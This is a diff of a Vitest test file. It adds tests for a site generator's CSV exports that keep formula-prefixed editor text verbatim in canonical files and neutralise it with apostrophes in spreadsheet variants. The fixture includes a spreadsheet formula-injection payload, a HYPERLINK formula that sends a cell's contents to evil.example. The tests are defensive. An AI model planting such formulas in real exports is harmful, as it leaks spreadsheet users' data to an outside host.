@@ -1,6 +1,7 @@
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
+import Papa from 'papaparse';
 import { afterAll, describe, expect, it } from 'vitest';
 import { formatEditorError } from '../../../src/errors/editor-error';
 import { editorWords } from '../../../src/i18n/editor-messages';
@@ -111,5 +112,70 @@ describe('recommendations', () => {
       content/recommendations/rec-c.yaml:3:35 addressee.name: names the addressee "town-hall" differently from content/recommendations/page.yaml
           hint: write the same name wherever the same addressee id is used"
     `);
+  });
+});
+
+describe('the tracker downloads with formulas typed by editors', () => {
+  const hostileRoot = fs.mkdtempSync(path.join(os.tmpdir(), 'vitrina-recommendations-formulas-'));
+  const hostile: SitePaths = { root: hostileRoot, content: path.join(hostileRoot, 'content'), data: path.join(hostileRoot, 'data') };
+  afterAll(() => fs.rmSync(hostileRoot, { recursive: true, force: true }));
+  fs.mkdirSync(path.join(hostile.content, 'recommendations'), { recursive: true });
+  fs.writeFileSync(
+    path.join(hostile.content, 'recommendations', 'rec-f.yaml'),
+    `title: { en: '=HYPERLINK("https://evil.example/?"&A1,"Click")', bg: '@SUM(1+1)', ru: '+7 495 123-45-67' }
+text: { en: '-1+1 people were served', bg: 'Обикновен текст' }
+addressee: { id: town-hall, name: { en: Town hall } }
+issued: 2023-09-01
+project: town-project
+history:
+  - { date: 2023-09-01, status: proposed, note: { en: '=1+1', bg: '-', ru: '@A1' } }
+`,
+  );
+  const { recommendations, errors } = loadRecommendations(hostile, links);
+  const siteLinks = { file: (file: string) => `/files/${file}`, publication: (lang: string, slug: string) => `/${lang}/publications/${slug}/` };
+  // YAML trims texts, so tab, carriage return and line feed can only reach the writer from code: set them here.
+  const withControls = recommendations.map((r) => ({ ...r, finding: { bg: '\t=1+1', en: '\r=1+1', ru: '\n=1+1' } }));
+  const rows = (csv: string) => Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;
+
+  it('keeps every text exactly as written in the canonical CSVs', () => {
+    expect(errors).toEqual([]);
+    const [row] = rows(trackerCsv(withControls));
+    expect(row).toMatchObject({
+      id: 'rec-f',
+      title_en: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      title_bg: '@SUM(1+1)',
+      title_ru: '+7 495 123-45-67',
+      text_en: '-1+1 people were served',
+      finding_bg: '\t=1+1',
+      finding_en: '\r=1+1',
+      finding_ru: '\n=1+1',
+      illustrative: 'false',
+    });
+    expect(trackerCsv(withControls).charCodeAt(0)).not.toBe(0xfeff);
+    expect(rows(historyCsv(withControls, siteLinks))[0]).toMatchObject({ note_en: '=1+1', note_bg: '-', note_ru: '@A1' });
+  });
+
+  it('neutralises each formula prefix in the spreadsheet variants, with a BOM, and leaves other cells alone', () => {
+    const list = trackerCsv(withControls, 'spreadsheet');
+    expect(list.startsWith('\uFEFFid,issued,project,')).toBe(true);
+    expect(rows(list)[0]).toMatchObject({
+      id: 'rec-f',
+      issued: '2023-09-01',
+      title_en: `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
+      title_bg: "'@SUM(1+1)",
+      title_ru: "'+7 495 123-45-67",
+      text_en: "'-1+1 people were served",
+      text_bg: 'Обикновен текст',
+      finding_bg: "'\t=1+1",
+      finding_en: "'\r=1+1",
+      finding_ru: "'\n=1+1",
+      status: 'proposed',
+      illustrative: 'false',
+    });
+    const history = historyCsv(withControls, siteLinks, 'spreadsheet');
+    expect(history.startsWith('\uFEFFid,date,status,')).toBe(true);
+    expect(rows(history)[0]).toEqual({ id: 'rec-f', date: '2023-09-01', status: 'proposed', note_bg: "'-", note_en: "'=1+1", note_ru: "'@A1", evidence: '' });
+    // Only the BOM and the apostrophes differ from the canonical file.
+    expect(list.slice(1).replaceAll("'", '')).toBe(trackerCsv(withControls).replaceAll("'", ''));
   });
 });
